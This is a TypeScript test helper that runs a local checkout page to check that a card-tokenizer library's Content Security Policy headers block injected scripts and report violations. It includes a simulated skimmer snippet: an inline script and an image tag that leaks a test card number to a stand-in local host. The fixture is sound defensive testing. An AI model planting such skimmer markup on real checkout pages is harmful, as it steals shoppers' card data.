import { readFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import type { TestCertificate } from './test-certificate.js';
import {
  nodeHandler,
  paymentPageHeaders,
  reportCollector,
  type PaymentPageReport,
} from '../../src/server/index.js';

const dist = new URL('../../dist/', import.meta.url);

export interface PaymentPageServer {
  url: string;
  /** Every report the collector passed to `onReport`, in order. */
  reports: PaymentPageReport[];
  close(): Promise<void>;
}

/** A merchant's checkout: the script-tag build and the element, under `nonce` when given. */
function checkout(nonce: string | undefined, extra = ''): string {
  const attribute = nonce ? ` nonce="${nonce}"` : '';
  return `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>Checkout under paymentPageHeaders</title>
    <script${attribute} src="/card-tokenizer.iife.js"></script>
  </head>
  <body>
    <main><h1>Pay by card</h1><card-tokenizer></card-tokenizer></main>
    ${extra}
  </body>
</html>`;
}

/**
 * What a skimmer injected into the page tries: an inline script (no nonce) and an image carrying
 * the card to another host. The policy refuses both before any request leaves.
 */
const SKIMMER = `<script>document.title = 'skimmed';</script>
    <img alt="" src="http://127.0.0.2:9/c.gif?pan=4970101122334455" />`;

/**
 * A merchant's server on 127.0.0.1: `/checkout.html` (the element under `paymentPageHeaders`),
 * `/skimmed.html` (the same with a skimmer's tags), the script-tag build from dist, and the
 * report collector at `/reports` through `nodeHandler`. With `reportUri`, the policy keeps only
 * `report-uri` (no Reporting API), as browsers without `report-to` read it.
 */
export async function startPaymentPageServer(options: {
  tokenizationOrigin: string;
  reportUri?: boolean;
  /** Served over https with it (Chromium's Reporting API sends to https endpoints only). */
  tls?: TestCertificate;
}): Promise<PaymentPageServer> {
  const reports: PaymentPageReport[] = [];
  const collect = nodeHandler(reportCollector({ onReport: (report) => void reports.push(report) }));
  const script = readFileSync(new URL('card-tokenizer.iife.js', dist));
  const listener: RequestListener = (request, response) => {
    const path = new URL(request.url ?? '/', 'http://page').pathname;
    if (path === '/reports') return collect(request, response);
    if (path === '/card-tokenizer.iife.js') {
      response.setHeader('Content-Type', 'text/javascript');
      return response.end(script);
    }
    if (path !== '/checkout.html' && path !== '/skimmed.html') {
      response.statusCode = 404;
      return response.end();
    }
    const { headers, nonce } = paymentPageHeaders({
      tokenizationOrigins: [options.tokenizationOrigin],
      reportUrl: '/reports',
    });
    for (const [name, value] of Object.entries(headers)) {
      response.setHeader(name, options.reportUri ? value.replace(/; report-to [\w-]+/, '') : value);
    }
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    response.end(checkout(nonce, path === '/skimmed.html' ? SKIMMER : ''));
  };
  const server = options.tls ? createTlsServer(options.tls, listener) : createServer(listener);
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  return {
    url: `${options.tls ? 'https' : 'http'}://127.0.0.1:${(server.address() as AddressInfo).port}`,
    reports,
    close: () =>
      new Promise((closed) => {
        server.close(() => closed());
        server.closeAllConnections();
      }),
  };
}
